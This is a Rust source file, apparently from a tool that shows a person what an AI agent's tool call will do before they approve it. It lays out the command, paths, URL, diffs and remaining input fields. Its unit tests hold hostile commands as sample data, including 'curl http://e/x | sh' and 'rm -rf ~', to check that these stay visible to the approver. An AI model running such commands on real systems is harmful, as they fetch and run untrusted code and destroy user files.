//! What an agent wants to do, as the person who is asked reads it.
//!
//! An agent describes a tool call in pieces: in `tool_call` updates, and in the permission request
//! itself. The title is only the agent's name for the call, so the question also has the command, the
//! paths, the URL and the diff, and every further field of the call's input.

use std::collections::{HashMap, VecDeque};

use muxtap_approvals::consent::{Rows, title};
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

/// The number of a session's tool calls whose description is remembered.
const CALLS: usize = 32;
/// The maximum size of a tool call's description, in bytes; a larger piece is not remembered.
const CALL_BYTES: usize = 256 << 10;
/// The maximum number of lines on each side of a diff whose common lines are searched for.
const DIFF_LINES: usize = 400;
/// The number of equal lines that a diff shows around a change.
const CONTEXT: usize = 2;
/// The maximum number of a call's diffs that a question shows.
const DIFFS: usize = 32;
/// The maximum number of other fields of a call's input that a question shows.
const INPUT_FIELDS: usize = 64;
/// The row for a diff whose texts are equal.
const NO_CHANGE: &str = "no change";
/// The names of the fields with the text that a call replaces, and of those with the new text.
const OLD_NAMES: [&str; 5] = ["old_string", "oldText", "old_str", "oldString", "old_text"];
const NEW_NAMES: [&str; 7] = ["new_string", "newText", "new_str", "newString", "new_text", "content", "file_text"];
/// The row for a call of which only the title is known.
const UNDESCRIBED: &str = "the agent does not say; only its own title for this is known";
/// The fields of a tool call that describe it.
const FIELDS: [&str; 5] = ["title", "kind", "rawInput", "content", "locations"];

/// The descriptions of a session's last tool calls.
#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub(super) struct Calls(VecDeque<(String, Map<String, Value>)>);

impl Calls {
    /// Notes what an update says about a tool call. Later fields replace earlier ones.
    pub(super) fn note(&mut self, update: &Value) {
        let kind = update.get("sessionUpdate").and_then(Value::as_str).unwrap_or_default();
        let Some(id) = update.get("toolCallId").and_then(Value::as_str).filter(|id| id.len() <= 256) else { return };
        if !matches!(kind, "tool_call" | "tool_call_update") {
            return;
        }
        let before = self.0.iter().position(|(known, _)| known == id).and_then(|at| self.0.remove(at));
        if matches!(update.get("status").and_then(Value::as_str), Some("completed" | "failed")) {
            return;
        }
        let mut call = before.map(|(_, call)| call).unwrap_or_default();
        merge(&mut call, update);
        if serde_json::to_string(&call).is_ok_and(|text| text.len() <= CALL_BYTES) {
            if self.0.len() >= CALLS {
                self.0.pop_front();
            }
            self.0.push_back((id.to_owned(), call));
        }
    }

    /// Returns what earlier updates have said about a permission request's tool call.
    pub(super) fn known(&self, call: &Value) -> Known {
        let id = call.get("toolCallId").and_then(Value::as_str);
        let known = self.0.iter().find(|(known, _)| Some(known.as_str()) == id);
        Known(known.map(|(_, call)| call.clone()).unwrap_or_default())
    }
}

/// What earlier updates have said about a tool call.
#[derive(Debug, Default)]
pub(super) struct Known(Map<String, Value>);

impl Known {
    /// Returns a permission request's tool call, with what is known about it.
    pub(super) fn complete(self, call: &Value) -> Value {
        let Self(mut whole) = self;
        if let Some(id) = call.get("toolCallId").and_then(Value::as_str) {
            whole.insert("toolCallId".into(), id.into());
        }
        merge(&mut whole, call);
        whole.into()
    }
}

fn merge(into: &mut Map<String, Value>, from: &Value) {
    for name in FIELDS {
        if let Some(value) = from.get(name).filter(|value| !value.is_null()) {
            into.insert(name.into(), value.clone());
        }
    }
}

/// A change of a text that a call describes.
struct Diff<'a> {
    label: String,
    old: &'a str,
    new: &'a str,
}

impl<'a> Diff<'a> {
    fn of(diff: &'a Value) -> Self {
        let side = |name: &str| diff.get(name).and_then(Value::as_str).unwrap_or_default();
        let what = if diff.get("oldText").is_none_or(Value::is_null) { "new file" } else { "change of" };
        Self { label: format!("{what} {}", title(side("path"))), old: side("oldText"), new: side("newText") }
    }

    /// Returns whether this field of the input is one of the two texts.
    fn has(&self, name: &str, value: &Value) -> bool {
        let Some(text) = value.as_str() else { return false };
        OLD_NAMES.contains(&name) && text == self.old || NEW_NAMES.contains(&name) && text == self.new
    }
}

/// Returns a tool call's title, and the rows that say what it will do.
///
/// The time that this takes grows with the length of the call alone, but a call can have 16 MiB.
pub(super) fn described(call: &Value) -> (String, String) {
    let text = |name: &str| call.get(name).and_then(Value::as_str);
    let name = text("title").filter(|title| !title.trim().is_empty()).or_else(|| text("toolCallId"));
    let mut rows = Rows::default();
    let mut input = Input::of(call.get("rawInput"));
    rows.add("command", &input.command());
    rows.add("in", &input.take(&["cwd", "workdir", "working_directory", "directory"]).join("\n"));
    rows.add("url", &input.take(&["url", "uri", "urls"]).join("\n"));
    let content = call.get("content").and_then(Value::as_array).map(Vec::as_slice).unwrap_or_default();
    let is = |part: &Value, kind: &str| part.get("type").and_then(Value::as_str) == Some(kind);
    let parts: Vec<&Value> = content.iter().filter(|part| is(part, "diff")).collect();
    rows.add("paths", &paths(call, &mut input, &parts).join("\n"));
    let mut diffs: Vec<Diff> = parts.iter().take(DIFFS).map(|diff| Diff::of(diff)).collect();
    if diffs.is_empty() {
        diffs.extend(input.replaced());
    }
    let (short, is_whole) = with_input(rows.clone(), &input, &diffs, true);
    // A field is left out only if a diff shows all of its text.
    let mut rows = if is_whole { short } else { with_input(rows, &input, &diffs, false).0 };
    rows.skip(parts.len().saturating_sub(DIFFS));
    if rows.is_empty() {
        rows.add("action", UNDESCRIBED);
    }
    let said = content.iter().filter(|part| is(part, "content")).filter_map(|part| part.get("content"));
    let said: Vec<String> = said.map(super::acp::content_text).filter(|text| !text.is_empty()).collect();
    rows.add("the agent says", &said.join("\n"));
    (title(name.unwrap_or("a tool call")), rows.into_text())
}

/// Adds the input's other fields and the diffs. Returns also whether every line of the diffs is shown.
///
/// `brief`: without the fields whose text is in a diff.
fn with_input(mut rows: Rows, input: &Input, diffs: &[Diff], brief: bool) -> (Rows, bool) {
    rows.add("input", &input.rest(if brief { diffs } else { &[] }));
    let mut is_whole = true;
    for diff in diffs {
        if rows.is_full() {
            rows.skip(1);
            is_whole = false;
            continue;
        }
        let (text, all) = changed(diff.old, diff.new);
        is_whole &= rows.add(&diff.label, if text.is_empty() { NO_CHANGE } else { &text }) && all;
    }
    (rows, is_whole)
}

/// Returns the paths that a call names: its locations, its diffs and its input's.
fn paths(call: &Value, input: &mut Input, diffs: &[&Value]) -> Vec<String> {
    let located = call.get("locations").and_then(Value::as_array).map(Vec::as_slice).unwrap_or_default();
    let path = |value: &Value| value.get("path").and_then(Value::as_str).map(str::to_owned);
    let named = located.iter().chain(diffs.iter().copied());
    let mut paths: Vec<String> = named.filter_map(path).collect();
    paths.extend(input.take(&["file_path", "filePath", "path", "abs_path", "notebook_path", "paths", "files", "file"]));
    let mut seen = std::collections::BTreeSet::new();
    paths.retain(|path| seen.insert(path.clone()));
    paths
}

/// The input of a tool call, without the fields that were shown.
struct Input(Value);

impl Input {
    fn of(raw: Option<&Value>) -> Self {
        Self(raw.cloned().unwrap_or_default())
    }

    /// Takes the command line.
    fn command(&mut self) -> String {
        let Some(fields) = self.0.as_object_mut() else { return String::new() };
        let Some(name) = ["command", "cmd", "script"]
            .into_iter()
            .find(|name| fields.get(*name).is_some_and(|value| value.is_string() || strings(value).is_some()))
        else {
            return String::new();
        };
        let args = fields.get("args").and_then(strings);
        if args.is_some() {
            fields.remove("args");
        }
        let mut line = match fields.remove(name) {
            Some(Value::String(command)) => command,
            Some(words) => {
                strings(&words).unwrap_or_default().iter().map(|word| quoted(word)).collect::<Vec<_>>().join(" ")
            }
            None => String::new(),
        };
        for word in args.unwrap_or_default() {
            line.push(' ');
            line.push_str(&quoted(&word));
        }
        line
    }

    /// Takes the texts and lists of texts in these fields.
    fn take(&mut self, names: &[&str]) -> Vec<String> {
        let Some(fields) = self.0.as_object_mut() else { return Vec::new() };
        let mut taken = Vec::new();
        for name in names {
            match fields.get(*name) {
                Some(Value::String(text)) => taken.push(text.clone()),
                Some(list) => match strings(list) {
                    Some(texts) => taken.extend(texts),
                    None => continue,
                },
                None => continue,
            }
            fields.remove(*name);
        }
        taken
    }

    /// Returns the replacement of a text that the input describes.
    fn replaced(&self) -> Option<Diff<'_>> {
        let text = |name: &str| self.0.get(name).and_then(Value::as_str);
        OLD_NAMES.iter().zip(NEW_NAMES).find_map(|(old, new)| {
            let (Some(old), Some(new)) = (text(old), text(new)) else { return None };
            Some(Diff { label: "change".into(), old, new })
        })
    }

    /// Returns every other field, without the texts of these diffs.
    fn rest(&self, diffs: &[Diff]) -> String {
        let Some(fields) = self.0.as_object() else {
            return match &self.0 {
                Value::Null => String::new(),
                Value::String(text) => text.clone(),
                other => other.to_string(),
            };
        };
        let is_shown = |name: &str, value: &Value| diffs.iter().any(|diff| diff.has(name, value));
        let others: Vec<_> = fields.iter().filter(|(name, value)| !is_shown(name, value)).collect();
        let line = |(name, value): &(&String, &Value)| match value {
            Value::String(text) => format!("{name}: {text}"),
            value => format!("{name}: {value}"),
        };
        let mut lines: Vec<String> = others.iter().take(INPUT_FIELDS).map(line).collect();
        if let Some(more) = others.len().checked_sub(INPUT_FIELDS).filter(|more| *more > 0) {
            lines.push(format!("[{more} more fields are not shown]"));
        }
        lines.join("\n")
    }
}

/// Returns a list of texts. `None`: the value is something else, or empty.
fn strings(value: &Value) -> Option<Vec<String>> {
    let list = value.as_array().filter(|list| !list.is_empty())?;
    list.iter().map(|word| word.as_str().map(str::to_owned)).collect()
}

/// Returns a word of a command line, in quotes if it is not plain.
fn quoted(word: &str) -> String {
    let is_plain = |letter: char| letter.is_alphanumeric() || "-_./=:@%+,~".contains(letter);
    if !word.is_empty() && word.chars().all(is_plain) {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', "'\\''"))
    }
}

/// Returns the changed lines between two texts, with a few equal ones around them, and whether these
/// are all lines.
fn changed(old: &str, new: &str) -> (String, bool) {
    let (old, new) = (lines_of(old), lines_of(new));
    let lines = compared(&old, &new);
    let near = |at: usize| {
        let from = at.saturating_sub(CONTEXT);
        lines.iter().skip(from).take(at - from + CONTEXT + 1).any(|(mark, _)| *mark != ' ')
    };
    let mut shown = Vec::new();
    let (mut skips, mut is_whole) = (false, true);
    for (at, (mark, line)) in lines.iter().enumerate() {
        if near(at) {
            if std::mem::take(&mut skips) && !shown.is_empty() {
                shown.push("…".to_owned());
            }
            shown.push(format!("{mark}{line}"));
        } else {
            (skips, is_whole) = (true, false);
        }
    }
    (shown.join("\n"), is_whole)
}

/// Returns the lines of a text. A carriage return stays, and is shown.
fn lines_of(text: &str) -> Vec<&str> {
    let mut lines: Vec<&str> = text.split('\n').collect();
    // The last line end begins no further line.
    lines.pop_if(|last| last.is_empty());
    lines
}

/// Marks each line: `-` is only in the old text, `+` only in the new one.
fn compared<'a>(old: &[&'a str], new: &[&'a str]) -> Vec<(char, &'a str)> {
    let head = old.iter().zip(new).take_while(|(one, other)| one == other).count();
    let (old_rest, new_rest) = (old.get(head..).unwrap_or_default(), new.get(head..).unwrap_or_default());
    let tail = old_rest.iter().rev().zip(new_rest.iter().rev()).take_while(|(one, other)| one == other).count();
    let inner = |lines: &[&'a str]| -> Vec<&'a str> { lines.iter().take(lines.len() - tail).copied().collect() };
    let (before, after) = (inner(old_rest), inner(new_rest));
    let mut lines: Vec<(char, &str)> = old.iter().take(head).map(|line| (' ', *line)).collect();
    if before.len() > DIFF_LINES || after.len() > DIFF_LINES {
        lines.extend(before.iter().map(|line| ('-', *line)));
        lines.extend(after.iter().map(|line| ('+', *line)));
    } else {
        lines.extend(common(&before, &after));
    }
    lines.extend(old.iter().skip(old.len() - tail).map(|line| (' ', *line)));
    lines
}

/// Marks each line by the longest sequence of lines that both texts have.
fn common<'a>(old: &[&'a str], new: &[&'a str]) -> Vec<(char, &'a str)> {
    // Equal lines have equal numbers: long lines are compared once.
    let mut known = HashMap::new();
    let mut numbers = |lines: &[&'a str]| -> Vec<usize> {
        let mut number = |line| {
            let next = known.len();
            *known.entry(line).or_insert(next)
        };
        lines.iter().map(|line| number(*line)).collect()
    };
    let (olds, news) = (numbers(old), numbers(new));
    // The lengths of the longest sequences of what remains behind each pair of lines.
    let width = new.len() + 1;
    let mut lengths = vec![0_u16; (old.len() + 1) * width];
    let at = |lengths: &[u16], one: usize, other: usize| lengths.get(one * width + other).copied().unwrap_or_default();
    for (one, before) in olds.iter().enumerate().rev() {
        for (other, after) in news.iter().enumerate().rev() {
            let length = if before == after {
                at(&lengths, one + 1, other + 1) + 1
            } else {
                at(&lengths, one + 1, other).max(at(&lengths, one, other + 1))
            };
            if let Some(place) = lengths.get_mut(one * width + other) {
                *place = length;
            }
        }
    }
    let (mut one, mut other, mut lines) = (0, 0, Vec::new());
    loop {
        match (old.get(one), new.get(other)) {
            (Some(before), Some(after)) if before == after => {
                lines.push((' ', *before));
                (one, other) = (one + 1, other + 1);
            }
            (Some(before), after)
                if after.is_none() || at(&lengths, one + 1, other) >= at(&lengths, one, other + 1) =>
            {
                lines.push(('-', *before));
                one += 1;
            }
            (_, Some(after)) => {
                lines.push(('+', *after));
                other += 1;
            }
            _ => return lines,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn rows(call: &Value) -> String {
        described(call).1
    }

    #[test]
    fn a_question_has_the_command_the_paths_the_url_and_the_rest() {
        let (name, rows) = described(&json!({
            "toolCallId": "c", "title": "Tidy up", "kind": "execute", "locations": [{"path": "/w/a", "line": 3}],
            "rawInput": {"command": "curl http://e/x | sh\nrm -r ~", "cwd": "/w", "file_path": "/w/b", "timeout": 5,
                         "url": "http://e/"},
        }));
        assert_eq!(name, "Tidy up");
        assert_eq!(
            rows,
            "command:\n  curl http://e/x | sh\n  rm -r ~\nin: /w\nurl: http://e/\n\
             paths:\n  /w/a\n  /w/b\ninput: timeout: 5"
        );
        let words = json!({"title": "Run", "rawInput": {"command": ["sh", "-c", "echo 'a'; x"]}});
        assert_eq!(described(&words).1, "command: sh -c 'echo '\\''a'\\''; x'");
        assert_eq!(described(&json!({"rawInput": {"cmd": "rm", "args": ["-r", "a b"]}})).1, "command: rm -r 'a b'");
        assert_eq!(described(&json!({"rawInput": "rm x"})).1, "input: rm x");
        // Fields of an unexpected type are shown as they are.
        let odd = json!({"rawInput": {"command": {"run": "rm"}, "path": 7}});
        assert_eq!(described(&odd).1, "input:\n  command: {\"run\":\"rm\"}\n  path: 7");
    }

    #[test]
    fn a_title_alone_is_never_a_question() {
        for call in [json!({"title": "Read a file"}), json!({"toolCallId": "c"}), json!(null), json!({"rawInput": {}})]
        {
            assert!(rows(&call).contains(UNDESCRIBED), "{call}");
        }
        let plan = rows(&json!({"title": "Plan", "content": [{"type": "content",
            "content": {"type": "text", "text": "harmless"}}]}));
        assert_eq!(plan, format!("action: {UNDESCRIBED}\nthe agent says: harmless"));
    }

    #[test]
    fn an_edit_is_shown_as_its_changed_lines() {
        let call = json!({"title": "Edit", "content": [
            {"type": "diff", "path": "/w/a", "oldText": "1\n2\n3\n4\n5\n6\n", "newText": "1\n2\n3\nfour\n5\n6\n"},
            {"type": "diff", "path": "/w/n", "newText": "new\n"}]});
        assert_eq!(
            rows(&call),
            "paths:\n  /w/a\n  /w/n\nchange of /w/a:\n   2\n   3\n  -4\n  +four\n   5\n   6\nnew file /w/n: +new"
        );
        let call =
            json!({"rawInput": {"file_path": "/w/a", "old_string": "a\nb", "new_string": "a\nc", "replace_all": true}});
        assert_eq!(rows(&call), "paths: /w/a\ninput: replace_all: true\nchange:\n   a\n  -b\n  +c");
        let same = json!({"rawInput": {"old_string": "a", "new_string": "b"},
            "content": [{"type": "diff", "path": "f", "oldText": "a", "newText": "b"}]});
        assert_eq!(rows(&same), "paths: f\nchange of f:\n  -a\n  +b");
        // A diff that differs from the input hides nothing of it.
        let other =
            json!({"rawInput": {"content": "evil"}, "content": [{"type": "diff", "path": "f", "newText": "b"}]});
        assert_eq!(rows(&other), "paths: f\ninput: content: evil\nnew file f: +b");
        let write = json!({"rawInput": {"file_path": "/w/a", "content": "x\ny"}});
        assert_eq!(rows(&write), "paths: /w/a\ninput:\n  content: x\n  y");
        assert_eq!(changed("a\nx\nb\nc", "a\nb\ny\nc"), (" a\n-x\n b\n+y\n c".into(), true));
        let long: Vec<String> = (0..30).map(|number| number.to_string()).collect();
        let mut other = long.clone();
        other[3] = "x".into();
        other[20] = "y".into();
        let (shown, is_whole) = changed(&long.join("\n"), &other.join("\n"));
        assert!(!is_whole);
        assert_eq!(shown, " 1\n 2\n-3\n+x\n 4\n 5\n…\n 18\n 19\n-20\n+y\n 21\n 22");
    }

    #[test]
    fn a_field_is_left_out_only_if_its_name_is_known_and_a_diff_shows_all_of_it() {
        let diff =
            |old: &str, new: &str| json!([{"type": "diff", "path": "README.md", "oldText": old, "newText": new}]);
        let asked = |input: Value, content: Value| rows(&json!({"rawInput": input, "content": content}));
        let hidden = json!({"code": "rm -rf ~", "path": "README.md"});
        assert_eq!(
            asked(hidden.clone(), diff("rm -rf ~", "rm -rf ~")),
            "paths: README.md\ninput: code: rm -rf ~\nchange of README.md: no change"
        );
        assert!(asked(hidden, diff("a", "rm -rf ~")).contains("input: code: rm -rf ~\n"));
        // The same with a known name: an equal diff shows nothing of it.
        for content in [diff("rm", "rm"), json!([])] {
            let shown = asked(json!({"old_string": "rm", "new_string": "rm"}), content);
            assert!(shown.contains("old_string: rm") && shown.contains("new_string: rm"), "{shown}");
            assert!(shown.ends_with(": no change"), "{shown}");
        }
        // A line that the diff passes over, as equal or as too much.
        for most in [9, 9000] {
            let before: Vec<String> = (0..most).map(|number| format!("{number}")).collect();
            let (old, new) = (format!("evil\n{}\nx", before.join("\n")), format!("evil\n{}\ny", before.join("\n")));
            let shown = asked(json!({"content": new}), diff(&old, &new));
            assert!(shown.contains("content: evil"), "{shown}");
        }
        let new = "line\n".repeat(2000);
        assert!(asked(json!({"content": new}), diff("", &new)).contains("content: line"));
    }

    #[test]
    fn many_diffs_and_fields_are_bounded_and_counted() {
        let side = |odd: usize| (0..400).map(|line| (line * 2 + odd).to_string()).collect::<Vec<_>>().join("\n");
        let diff = json!({"type": "diff", "path": "f", "oldText": side(0), "newText": side(1)});
        let fields: Map<String, Value> = (0..500).map(|number| (format!("f{number}"), number.into())).collect();
        let begun = std::time::Instant::now();
        let shown = rows(&json!({"rawInput": fields, "content": vec![diff; 10_000]}));
        assert!(shown.contains("[436 more fields are not shown]"), "{shown}");
        assert!(shown.ends_with(" more rows") && shown.len() < 20_000, "{}", shown.len());
        assert!(begun.elapsed() < std::time::Duration::from_secs(10), "{:?}", begun.elapsed());
    }

    #[test]
    fn earlier_updates_describe_a_call_that_is_asked_about_by_its_id() {
        let mut calls = Calls::default();
        let complete = |calls: &Calls, call: &Value| calls.known(call).complete(call);
        let update = |more: Value| {
            let mut update = json!({"sessionUpdate": "tool_call", "toolCallId": "c"});
            update.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
            update
        };
        calls.note(&update(json!({"title": "Run", "rawInput": {"command": "rm x"}})));
        calls.note(&update(
            json!({"sessionUpdate": "tool_call_update", "locations": [{"path": "/x"}], "rawInput": null}),
        ));
        let whole = complete(&calls, &json!({"toolCallId": "c", "title": "Do it"}));
        assert_eq!(described(&whole), ("Do it".into(), "command: rm x\npaths: /x".into()));
        // A call that is over describes no later one.
        calls.note(&update(json!({"sessionUpdate": "tool_call_update", "status": "completed"})));
        assert!(rows(&complete(&calls, &json!({"toolCallId": "c"}))).contains(UNDESCRIBED));
        for number in 0..CALLS + 4 {
            calls.note(&update(json!({"toolCallId": format!("n{number}"), "title": "x"})));
        }
        calls.note(&update(json!({"rawInput": {"command": "x".repeat(CALL_BYTES)}})));
        assert_eq!(calls.0.len(), CALLS);
    }
}
